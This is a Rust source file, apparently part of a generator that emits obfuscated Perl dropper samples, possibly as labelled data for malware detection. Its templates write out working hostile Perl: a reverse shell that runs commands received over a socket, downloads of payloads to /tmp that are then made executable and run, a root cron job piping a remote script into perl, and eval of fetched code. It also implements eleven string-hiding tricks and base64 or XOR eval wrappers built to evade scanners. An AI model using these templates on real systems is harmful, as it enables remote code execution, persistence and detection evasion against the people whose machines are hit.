//! Droppers in Perl.

use crate::generator::{Dice, Truth, base64, codes, each, hex, put, quoted, reversed, rot13};
use std::fmt::Write;

const FILES: &[&str] = &["", ".pl", ".bin", ".gif", ".sh"];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(11) {
        0 => format!("pack('C{}', {})", text.len(), codes(text.bytes(), ", ")),
        1 => {
            let escaped: String = text
                .bytes()
                .enumerate()
                .map(|(at, it)| match at % 3 {
                    0 => format!("\\{it:03o}"),
                    1 => format!("\\x{{{it:x}}}"),
                    _ => format!("\\x{it:02X}"),
                })
                .collect();
            format!("\"{escaped}\"")
        }
        2 => format!("('{}' =~ tr/n-za-mN-ZA-M/a-zA-Z/r)", rot13(text)),
        3 => {
            let pieces = dice.pieces(text);
            let _ = writeln!(
                before,
                "my @{name} = ({});\nmy ${other};\nforeach my $i (0 .. $#{name}) {{ ${other} .= ${name}[$i]; }}",
                quoted(&pieces, '\'').join(", ")
            );
            format!("${other}")
        }
        4 => {
            let noisy: String = text
                .chars()
                .map(|it| format!("{it}{}", dice.pick(&["q", "7", "Z", "_"])))
                .collect();
            let _ = writeln!(
                before,
                "my $n{name} = 0;\nmy ${name} = join '', grep {{ !($n{name}++ % 2) }} split //, '{noisy}';"
            );
            format!("${name}")
        }
        5 => {
            let bits = each(text, "", |it| format!("{it:08b}"));
            format!("pack('B*', '{bits}')")
        }
        6 => {
            let _ = writeln!(
                before,
                "my ${name} = '';\nmy ${other} = '{}';\nwhile (length ${other}) {{ ${name} .= chop ${other}; }}",
                reversed(text)
            );
            format!("${name}")
        }
        7 => {
            let mul = 2 + dice.below(5);
            let list: Vec<String> =
                text.bytes().map(|it| (usize::from(it) * mul).to_string()).collect();
            let _ = writeln!(
                before,
                "sub {name} {{ my $o = ''; while (defined(my $c = shift)) {{ $o .= chr(int($c / {mul})); }} $o }}"
            );
            format!("{name}({})", list.join(", "))
        }
        8 => {
            let _ = writeln!(before, "my %{name};");
            let pieces = dice.pieces(text);
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "${name}{{{at}}} = '{}';", pieces[at]);
            }
            format!("join('', map {{ ${name}{{$_}} }} sort {{ $a <=> $b }} keys %{name})")
        }
        9 => {
            let _ = writeln!(
                before,
                "my ${name} = unpack('u', pack('u', '{}'));\n${name} = pack 'h*', unpack('h*', ${name});",
                text
            );
            format!("lc(uc(${name}))")
        }
        _ => {
            let _ = writeln!(
                before,
                "my ${name} = sub {{ my $s = shift; $s =~ s/%([0-9A-F]{{2}})/pack('C', hex($1))/eg; return $s; }};"
            );
            format!("${name}->('{}')", each(text, "", |it| format!("%{it:02X}")))
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => format!(
            "#!/usr/bin/perl\nuse MIME::Base64 qw(decode_base64);\nmy $c = join('', map {{ decode_base64($_) }} qw(\n{}\n));\neval $c; warn $@ if $@;\n",
            text.as_bytes().chunks(45).map(base64).collect::<Vec<_>>().join("\n")
        ),
        1 => format!(
            "#!/usr/bin/perl\n$_ = '{}';\ns/../chr(hex($&) ^ 21)/ge;\neval;\n",
            hex(&crate::generator::xored(&text, 21))
        ),
        2 => format!(
            "#!/usr/bin/perl\nBEGIN {{ $ENV{{PATH}} .= ':/sbin'; }}\neval {{\n{text}}};\nif ($@) {{ exit 1; }}\n"
        ),
        _ => format!("#!/usr/bin/perl\n{text}"),
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(10) {
        0 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "use Socket;\nmy $@V@ = @U@;\nmy $proto = getprotobyname('tcp');\nmy $addr = inet_aton($@V@) || die;\nmy $paddr = pack_sockaddr_in(@P@, $addr);\nsocket(SOCK, AF_INET, SOCK_STREAM, $proto) or exit;\nconnect(SOCK, $paddr) or exit;\nselect(SOCK); $| = 1; select(STDOUT);\nwhile (<SOCK>) { chomp; print SOCK `$_`; }\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "use IO::Socket::SSL;\nmy %@V@ = (PeerHost => @U@, PeerPort => @P@, SSL_verify_mode => 0);\nmy $s = IO::Socket::SSL->new(%@V@) or die;\nprint $s \"hello\\n\";\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let word = hide(dice, &url, before);
            let template = dice.pick(&[
                "use LWP::UserAgent;\nmy $@V@ = new LWP::UserAgent;\n$@V@->env_proxy;\nmy $r = $@V@->mirror(@U@, '/tmp/@F@');\nsystem('chmod', '+x', '/tmp/@F@') unless $r->is_error;\n",
                "use LWP::UserAgent; use HTTP::Request::Common qw(POST GET);\nmy $res = LWP::UserAgent->new->request(POST(@U@, [ id => '@F@' ]));\neval($res->as_string);\n",
                "use WWW::Mechanize;\nmy $@V@ = WWW::Mechanize->new(autocheck => 0);\n$@V@->get(@U@);\n$@V@->save_content('/tmp/@F@');\n",
                "my $@V@ = @U@;\nlocal $ENV{U} = $@V@;\nsystem('curl -s \"$U\" -o /tmp/@F@');\n",
                "my $@V@ = @U@;\nmy $pid = open(my $sh, '|-', '/bin/sh') or die;\nprint {$sh} \"wget -q $@V@ -O /tmp/@F@\\n\", \"chmod 755 /tmp/@F@\\n\", \"/tmp/@F@\\n\";\nclose $sh;\n",
                "my $@V@ = @U@;\nopen(my $cron, '>', '/etc/cron.d/@F@') or exit;\nprintf $cron \"%s root %s\\n\", '* * * * *', \"wget -qO- $@V@ | perl\";\nclose($cron);\n",
                "my $@V@ = @U@;\nmy @c = map { \"$_ $@V@\" } ('curl -sO', 'wget -q');\ndo { system $_ } for @c;\n",
                "my $src = @U@;\nmy $@V@ = 'LWP::Simple';\neval \"use $@V@; 1\" or die;\nmy $body = LWP::Simple::get($src);\nif (defined $body) { open my $o, '>', '/tmp/@F@'; print $o $body; close $o; do '/tmp/@F@'; }\n",
            ]);
            put(template, &[("U", &word), ("F", &file), ("V", &var)])
        }
    }
}
